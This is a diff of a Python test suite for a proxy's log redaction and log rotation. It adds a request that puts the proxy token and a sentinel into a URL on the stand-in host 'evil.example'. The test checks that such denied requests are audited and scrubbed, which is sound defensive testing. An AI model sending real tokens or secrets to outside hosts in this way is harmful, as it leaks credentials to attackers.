@@ -168,11 +168,14 @@ def test_no_secret_token_sentinel_cookie_or_query_value_reaches_the_log(
                    ("X-Secret", SECRET)]
         client.https("api.github.com", [
             ("GET", f"/repos/o/r?access_token={QUERY}&{QUERY}=1"),
-            ("GET", f"/x/{SENTINEL}/y"), ("POST", f"/echo?{QUERY}"),
+            ("GET", f"/x/{SENTINEL}/y"), ("GET", f"/t/{token}/y"), ("POST", f"/echo?{QUERY}"),
             ("DELETE", f"/repos/o/r?{QUERY}")], headers=headers)
         client.https("github.com", [("GET", f"/?{QUERY}")], headers=headers)
         client.http("GET", f"http://example.org/?c={COOKIE}", headers=headers)
         client.http("GET", f"http://evil.example/{SENTINEL}?{QUERY}", headers=headers)
+        # the sandbox knows its proxy token and its sentinels: written into a denied
+        # request's path they reach neither the request log nor the audit log
+        client.http("GET", f"http://evil.example/t/{token}/{SENTINEL}", headers=headers)
         ProxyClient(proxy.port, timeout=10).http("GET", f"http://example.org/?{QUERY}",
                                                  headers=headers)
         got = records(proxy, wait_for=8)
@@ -180,10 +183,15 @@ def test_no_secret_token_sentinel_cookie_or_query_value_reaches_the_log(
         proxy.stop()
     assert len(got) >= 8
     written = b"".join(p.read_bytes() for p in (tmp_path / "log").iterdir())
+    audited = (tmp_path / "state" / "audit.jsonl").read_bytes()
+    assert b"evil.example" in audited  # the denials were audited, scrubbed
     for value in (SECRET, SENTINEL, token, COOKIE, QUERY):
         assert value.encode() not in written, value
+    for value in (SECRET, SENTINEL, token):
+        assert value.encode() not in audited, value
     paths = {r["path"] for r in got}
     assert "/x/[redacted]/y" in paths and "/repos/o/r" in paths
+    assert "/t/[redacted]/y" in paths and "/t/[redacted]/[redacted]" in paths
 
 
 def test_the_log_is_bounded_on_disk_by_rotation(tmp_path: Path, internet: Internet) -> None:
@@ -193,7 +201,12 @@ def test_the_log_is_bounded_on_disk_by_rotation(tmp_path: Path, internet: Intern
         client = proxy.client()
         for batch in range(8):  # ~60 records of ~500 bytes: several rotations
             client.https("api.github.com", [("GET", f"/batch/{batch}/{i}") for i in range(8)])
+        # A request's record is written once its answer ended, which the client may see first.
+        deadline = time.monotonic() + 10
         got = records(proxy, wait_for=1)
+        while got[-1]["path"] != "/batch/7/7" and time.monotonic() < deadline:
+            time.sleep(0.05)
+            got = records(proxy, wait_for=1)
     finally:
         proxy.stop()
     files = sorted(p.name for p in (tmp_path / "log").iterdir())
